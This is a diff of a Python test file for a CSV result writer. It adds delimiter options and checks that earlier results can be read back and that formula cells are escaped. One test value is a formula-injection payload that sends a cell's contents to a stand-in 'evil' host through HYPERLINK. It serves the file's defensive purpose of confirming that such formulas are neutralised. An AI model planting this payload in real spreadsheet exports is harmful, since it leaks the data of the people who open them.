@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 import csv
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from jobs.errors import SettingsError
 from producer.csv_style import CsvStyle, read_cell
 from producer.report import Ending, ReportRow
-from producer.result_files import Layout, read_finished, write_results
+from producer.result_files import Layout, read_earlier, write_results
 
 COMPUTED = [
     '=HYPERLINK("http://evil/?"&A1)',
@@ -42,7 +44,11 @@ def test_everything_else_is_written_as_it_is(text: str) -> None:
     assert read_cell(text) == text
 
 
-@pytest.mark.parametrize("style", [CsvStyle(), CsvStyle(bom=True), CsvStyle(keep_formulas=True)])
+@pytest.mark.parametrize(
+    "style",
+    [CsvStyle(), CsvStyle(bom=True), CsvStyle(keep_formulas=True), *(CsvStyle(delimiter=sign) for sign in ";\t|")],
+    ids=repr,
+)
 def test_a_later_run_finds_its_rows_whatever_the_style(tmp_path: Path, style: CsvStyle) -> None:
     (tmp_path / "=x.png").write_bytes(b"image")
     done = Ending("succeeded", (tmp_path / "=x.png").as_uri(), 2**64 - 1, 1, 0.5, "", "a")
@@ -52,9 +58,18 @@ def test_a_later_run_finds_its_rows_whatever_the_style(tmp_path: Path, style: Cs
 
     content = (tmp_path / "results.csv").read_bytes()
     assert content.startswith(b"\xef\xbb\xbf") == style.bom
-    header = next(csv.reader(content.decode("utf-8-sig").splitlines()))
+    header = next(csv.reader(content.decode("utf-8-sig").splitlines(), delimiter=style.delimiter))
     assert header[0] == ("=column" if style.keep_formulas else "'=column")
-    assert read_finished(tmp_path / "results.csv", layout) == {"a": done}
+    for later in (style, CsvStyle()):
+        assert read_earlier(tmp_path / "results.csv", replace(layout, style=later)) == {"a": done}
+
+
+def test_a_delimiter_is_a_sign_or_its_name() -> None:
+    assert [CsvStyle.chosen(False, False, given).delimiter for given in (None, ";", "semicolon", "Tab", "\\t")] == [
+        *(",", ";", ";", "\t", "\t")
+    ]
+    with pytest.raises(SettingsError, match=r"--delimiter 'x': expected one of , ; \| or tab"):
+        CsvStyle.chosen(False, False, "x")
 
 
 def test_the_largest_seed_fits_into_parquet(tmp_path: Path) -> None:
